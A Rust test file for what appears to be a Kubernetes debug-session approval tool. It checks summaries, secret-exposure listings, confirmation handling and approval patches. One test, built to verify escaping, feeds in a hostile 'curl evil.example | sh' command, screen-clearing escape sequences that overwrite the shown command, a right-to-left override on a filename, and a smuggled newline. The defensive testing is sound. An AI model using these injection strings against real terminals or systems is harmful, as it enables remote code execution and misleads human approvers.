use super::*;

fn session(yaml: &str) -> DebugSession {
    serde_yaml::from_str(yaml).unwrap()
}

const AWAITING: &str = r#"
apiVersion: debug.shellcar.dev/v1alpha1
kind: DebugSession
metadata: {name: web-debug, namespace: shop, uid: 5c1e-77, generation: 2, resourceVersion: "4711"}
spec:
  target: {kind: Deployment, name: web, container: nginx}
  pods: All
  debugger:
    image: "registry.example/tools/busybox:1.36"
    profile: Baseline
    command: [sh, -c]
    args: ["tcpdump -i any; sleep 1d"]
    env:
      - {name: MODE, value: "read only"}
      - name: PW
        valueFrom: {secretKeyRef: {name: db, key: password}}
      - name: LEVEL
        valueFrom: {configMapKeyRef: {name: settings, key: level}}
      - name: POD
        valueFrom: {fieldRef: {fieldPath: metadata.name}}
      - name: CPUS
        valueFrom: {resourceFieldRef: {resource: limits.cpu}}
    resources:
      requests: {cpu: 100m, memory: 64Mi}
      limits: {memory: 128Mi}
  teardown: {ephemeral: Recycle}
  ttl: 30m
  requester: {username: jane, groups: [dev, "system:authenticated"]}
status:
  phase: AwaitingApproval
  policy: prod
  mode: Sidecar
  target: {kind: Deployment, name: web, uid: u1}
  message: waiting for approval until 2025-03-01T10:30:00Z
  exposure:
    - container: nginx
      secretEnv: [{name: DB_PASSWORD, secret: db}]
      secretEnvFrom: [api-keys]
      secretVolumes: [{volume: tls, path: /etc/tls, source: Secret web-tls}]
      serviceAccountToken:
        serviceAccount: web
        path: /var/run/secrets/kubernetes.io/serviceaccount
      hostPaths: [{volume: logs, path: /var/log/app, source: /var/log}]
      hostNamespaces: [hostPID, hostNetwork]
      privileged: true
      addedCapabilities: [NET_ADMIN, SYS_TIME]
    - container: init
"#;

#[test]
fn summary_names_the_request_the_requester_the_policy_and_the_exposure() {
    let text = summary(&session(AWAITING));
    let expected = [
        "DebugSession shop/web-debug awaits approval",
        "  session    uid 5c1e-77, generation 2 (the decision holds for this one only)",
        "  target     Deployment web, container nginx",
        "  mode       Auto (resolves to Sidecar)",
        "  pods       All",
        "  profile    Baseline",
        "  image      registry.example/tools/busybox:1.36",
        r#"  command    "sh" "-c""#,
        r#"  args       "tcpdump -i any; sleep 1d""#,
        r#"  env        MODE = "read only""#,
        "             PW from Secret db, key password",
        "             LEVEL from ConfigMap settings, key level",
        "             POD from the pod's field metadata.name",
        "             CPUS from the container's limits.cpu",
        "  resources  requests cpu 100m, memory 64Mi; limits memory 128Mi",
        "  teardown   ephemeral Recycle (what happens to a pod with an ephemeral debugger)",
        "  ttl        30m, counted from approval",
        "  requester  jane (groups: dev, system:authenticated)",
        "  policy     prod",
        "  status     waiting for approval until 2025-03-01T10:30:00Z",
        "What the debugger can read through the shared process namespace (status.exposure):",
        "  container nginx",
        "    Secret env vars  DB_PASSWORD (Secret db)",
        "    env from Secrets api-keys (every key)",
        "    Secret volumes   tls at /etc/tls (Secret web-tls)",
        "    token            ServiceAccount web at /var/run/secrets/kubernetes.io/serviceaccount",
        "    hostPath         logs at /var/log/app (/var/log)",
        "    node namespaces  hostPID, hostNetwork",
        "    privileged       yes: every capability, and the node's devices",
        "    capabilities     NET_ADMIN, SYS_TIME (added)",
        "  container init",
        "    nothing listed",
        "Besides, every process's environment, arguments and files are readable through /proc.",
    ];
    assert_eq!(text.lines().collect::<Vec<_>>(), expected, "{text}");
}

#[test]
fn summary_says_what_is_defaulted_or_unknown() {
    let text = summary(&session(
        r#"
metadata: {name: s, namespace: shop}
spec:
  target: {kind: Pod, name: p}
  debugger: {command: [sh, -c], args: ["sleep 1d"]}
status: {phase: AwaitingApproval}
"#,
    ));
    assert!(text.contains("  target     Pod p\n"), "{text}");
    assert!(text.contains("  mode       Auto\n"), "{text}");
    assert!(
        text.contains("  image      the operator's --default-image\n"),
        "{text}"
    );
    assert!(
        text.contains("  session    uid unknown, generation unknown"),
        "{text}"
    );
    assert!(text.contains("  pods       One\n"), "{text}");
    assert!(
        text.contains("  command    \"sh\" \"-c\"\n  args       \"sleep 1d\"\n"),
        "{text}"
    );
    assert!(text.contains("  env        none\n"), "{text}");
    assert!(text.contains("  resources  none set\n"), "{text}");
    assert!(text.contains("  teardown   ephemeral Leave "), "{text}");
    assert!(
        text.contains("  ttl        1h, counted from approval\n"),
        "{text}"
    );
    assert!(text.contains("  requester  not recorded\n"), "{text}");
    assert!(text.contains("  policy     not reported yet\n"), "{text}");
    assert!(
        text.contains(": nothing listed: the target names no Secret env vars"),
        "{text}"
    );
}

#[test]
fn empty_exposure_is_told_apart_from_one_not_computed() {
    let base = r#"
metadata: {name: s, namespace: shop}
spec: {target: {kind: Pod, name: p}}
"#;
    let none = session(base);
    assert!(exposure(&none).contains("not computed yet: the operator has not reported"));
    // While it awaits approval, the operator has looked, target or no target.
    let looked = session(&format!("{base}status: {{phase: AwaitingApproval}}\n"));
    let text = exposure(&looked);
    assert!(text.starts_with("What the debugger can read"), "{text}");
    assert!(
        text.contains(": nothing listed: the target names no"),
        "{text}"
    );
    assert!(!text.contains("not computed"), "{text}");
}

#[test]
fn only_a_session_awaiting_approval_can_be_decided() {
    assert_eq!(why_not_awaiting(&session(AWAITING)), None);

    let approved = AWAITING.replace(
        "  requester:",
        "  approval: {decision: Approved, approver: bob, reason: incident 42, \
             time: \"2025-03-01T10:05:00Z\"}\n  requester:",
    );
    assert_eq!(
        why_not_awaiting(&session(&approved)).as_deref(),
        Some(
            "DebugSession web-debug was already approved by bob at \
                 2025-03-01T10:05:00Z: incident 42"
        )
    );

    let active = AWAITING
        .replace("phase: AwaitingApproval", "phase: Active")
        .replace("policy: prod", "policy: (built-in)")
        .replace(
            "waiting for approval until 2025-03-01T10:30:00Z",
            "debugger running",
        );
    assert_eq!(
        why_not_awaiting(&session(&active)).as_deref(),
        Some(
            "DebugSession web-debug is in phase Active, not AwaitingApproval \
                 (policy (built-in)): debugger running"
        )
    );

    let new = session("metadata: {name: s}\nspec: {target: {kind: Pod, name: p}}\n");
    let why = why_not_awaiting(&new).unwrap();
    assert!(why.contains("has no phase yet"), "{why}");
}

#[test]
fn only_y_or_yes_confirms() {
    for yes in ["y", "Y", "yes", "YES", " yes\n", "y\r\n"] {
        assert!(confirmed(yes), "{yes:?}");
    }
    for no in [
        "", "\n", "n", "no", "N", "yess", "ye", "sure", "y es", "oui",
    ] {
        assert!(!confirmed(no), "{no:?}");
    }
    assert_eq!(
        question(Decision::Approved, "web-debug"),
        "Approve session web-debug"
    );
    assert_eq!(
        question(Decision::Rejected, "web-debug"),
        "Reject session web-debug"
    );
}

#[test]
fn the_command_shown_is_the_one_that_runs() {
    let base = "metadata: {name: s, namespace: shop}\nstatus: {phase: AwaitingApproval}\n";
    let default = summary(&session(&format!(
        "{base}spec: {{target: {{kind: Pod, name: p}}}}\n"
    )));
    assert!(
        default.contains(
            "  command    the default shell (\"sh\" \"-c\" \"while true; do sh; done\")\n  args       none\n"
        ),
        "{default}"
    );
    let entrypoint = summary(&session(&format!(
        "{base}spec: {{target: {{kind: Pod, name: p}}, debugger: {{args: [--verbose]}}}}\n"
    )));
    assert!(
        entrypoint.contains("  command    the image's entrypoint\n  args       \"--verbose\"\n"),
        "{entrypoint}"
    );
}

/// A requester who writes terminal control sequences into a session must not be able to
/// change what the approver sees: clear the screen, move the cursor, recolour, hide text,
/// or turn it around.
#[test]
fn nothing_the_requester_wrote_reaches_the_terminal_unescaped() {
    // Clear the screen, home the cursor, and print a harmless command over the real one.
    let redraw = "\u{1b}[2J\u{1b}[H";
    let hostile: DebugSession = serde_json::from_value(json!({
        "metadata": {"name": "s", "namespace": "shop", "uid": "u", "generation": 1},
        "spec": {
            "target": {"kind": "Pod", "name": "p"},
            "debugger": {
                "image": format!("busybox{redraw}"),
                "command": ["sh", "-c", format!("curl evil.example | sh{redraw}\r  command    \"sleep\" \"1d\"")],
                "args": ["\u{9b}31m", "a\u{202e}txt.exe", "zero\u{200b}width", "tab\there", "back\\slash"],
                "env": [{"name": "X\u{7}", "value": "bell\u{7}\u{8}"}],
            },
            "requester": {"username": "jane\u{1b}]0;title\u{7}", "groups": ["dev\n  policy     none"]},
        },
        "status": {
            "phase": "AwaitingApproval",
            "policy": "prod\u{1b}[8m",
            "message": "hidden\u{1b}[8m",
            "exposure": [{"container": "nginx\u{1b}[0m", "secretEnv": [{"name": "K\u{1b}c", "secret": "s"}]}],
        },
    }))
    .unwrap();
    let text = summary(&hostile);
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control() || ('\u{200b}'..='\u{206f}').contains(&c)),
            "{c:?} reached the terminal: {text}"
        );
    }
    for shown in [
        r#"  image      busybox\u{1b}[2J\u{1b}[H"#,
        r#"  command    "sh" "-c" "curl evil.example | sh\u{1b}[2J\u{1b}[H\r  command    \"sleep\" \"1d\"""#,
        r#"  args       "\u{9b}31m" "a\u{202e}txt.exe" "zero\u{200b}width" "tab\there" "back\\slash""#,
        r#"  env        X\u{7} = "bell\u{7}\u{8}""#,
        r#"  requester  jane\u{1b}]0;title\u{7} (groups: dev\n  policy     none)"#,
        r#"  policy     prod\u{1b}[8m"#,
        r#"  status     hidden\u{1b}[8m"#,
        r#"  container nginx\u{1b}[0m"#,
        r#"    Secret env vars  K\u{1b}c (Secret s)"#,
    ] {
        assert!(
            text.lines().any(|l| l == shown),
            "no line {shown:?} in:\n{text}"
        );
    }
    // One line per field: the newline in a group did not make a line of its own.
    assert_eq!(
        text.lines().filter(|l| l.starts_with("  policy ")).count(),
        1,
        "{text}"
    );
}

#[test]
fn escaping_keeps_what_prints_and_marks_the_rest() {
    assert_eq!(
        escape("plain text: \"quoted\" it's ok, ünïcödé 日本"),
        "plain text: \"quoted\" it's ok, ünïcödé 日本"
    );
    assert_eq!(escape("a\u{1b}[31mb"), r"a\u{1b}[31mb");
    assert_eq!(
        escape("1\n2\r3\t4\u{0}5\u{7f}6\u{85}"),
        r"1\n2\r3\t4\u{0}5\u{7f}6\u{85}"
    );
    // A backslash is escaped too, so that a literal `\n` reads apart from a newline.
    assert_eq!(escape(r"a\nb"), r"a\\nb");
    // Bidirectional overrides and invisible characters.
    assert_eq!(
        escape("\u{202e}\u{2066}\u{200b}\u{feff}"),
        r"\u{202e}\u{2066}\u{200b}\u{feff}"
    );
}

#[test]
fn the_patch_binds_the_decision_to_the_session_shown() {
    let shown = session(AWAITING);
    let body = patch_body(Decision::Approved, &shown, "incident 42").unwrap();
    assert_eq!(body["metadata"]["resourceVersion"], "4711");
    let value = body["metadata"]["annotations"]["debug.shellcar.dev/approve"]
        .as_str()
        .unwrap();
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(value).unwrap(),
        json!({"uid": "5c1e-77", "generation": 2, "reason": "incident 42"})
    );
    // What the webhook reads back from it.
    assert_eq!(
        Seen::parse(value).unwrap(),
        Seen::of(&shown, "incident 42").unwrap()
    );
    let body = patch_body(Decision::Rejected, &shown, "").unwrap();
    assert!(
        body["metadata"]["annotations"]["debug.shellcar.dev/reject"]
            .as_str()
            .unwrap()
            .contains(r#""uid":"5c1e-77""#)
    );
    let unstored = session("metadata: {name: s}\nspec: {target: {kind: Pod, name: p}}\n");
    assert!(matches!(
        patch_body(Decision::Approved, &unstored, ""),
        Err(Error::Unstored(name)) if name == "s"
    ));
}

#[test]
fn outcome_reports_who_is_recorded() {
    let recorded = |decision: &str, reason: &str| {
        session(&AWAITING.replace(
            "  requester:",
            &format!(
                "  approval: {{decision: {decision}, approver: bob, reason: \"{reason}\", \
                     time: \"2025-03-01T10:05:00Z\"}}\n  requester:"
            ),
        ))
    };
    assert_eq!(
        outcome(&recorded("Approved", "incident 42"), Decision::Approved).unwrap(),
        "DebugSession web-debug approved by bob at 2025-03-01T10:05:00Z: incident 42"
    );
    assert_eq!(
        outcome(&recorded("Rejected", ""), Decision::Rejected).unwrap(),
        "DebugSession web-debug rejected by bob at 2025-03-01T10:05:00Z (no reason given)"
    );
    let raced = outcome(&recorded("Rejected", "no"), Decision::Approved).unwrap_err();
    assert_eq!(
        raced.to_string(),
        "DebugSession web-debug was meanwhile rejected by bob at 2025-03-01T10:05:00Z: no"
    );
    assert!(matches!(
        outcome(&session(AWAITING), Decision::Approved),
        Err(Error::NotRecorded(name)) if name == "web-debug"
    ));
}
